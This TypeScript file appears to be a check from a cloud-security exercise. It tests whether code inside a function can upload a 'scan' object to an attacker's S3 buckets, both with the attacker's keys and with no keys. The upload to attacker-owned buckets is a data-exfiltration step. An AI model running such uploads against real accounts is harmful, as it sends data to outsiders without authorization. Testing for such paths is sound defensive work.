import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { type CheckContext, digits, fail, insider, type Outcome, pass } from '../../server/kit.ts';
import { attackersBuckets, functionName } from './buckets.ts';
import { waysToS3 } from './inside.ts';

/** Code in the function sends a scan to buckets of the attacker: with the attacker's keys, and without any. */
export async function sendScansAway(ctx: CheckContext): Promise<Outcome> {
  const keys = ctx.user('intruder', 'attacker').credentials;
  const ways = await waysToS3(ctx);
  const targets = await attackersBuckets(ctx, 2);
  let refused = '';
  for (const way of ways)
    for (const [who, credentials] of [
      ["the attacker's keys", keys],
      ['no keys', undefined],
    ] as const) {
      const thief = insider(ctx, who, way, credentials).client(S3Client);
      for (const Bucket of targets) {
        const Key = `S-${digits(ctx.random, 8)}.txt`;
        const sent = await ctx.attempt(() => thief.send(new PutObjectCommand({ Bucket, Key, Body: `scan ${Key}` })));
        if (sent.ok) return pass(`a scan went to the attacker's bucket ${Bucket} with ${who}: ${way.name}`);
        refused ||= sent.message;
      }
    }
  if (ways.length === 0) return fail(`${functionName} has no way to S3`);
  return fail(`nothing goes to the attacker's buckets: ${refused}`);
}
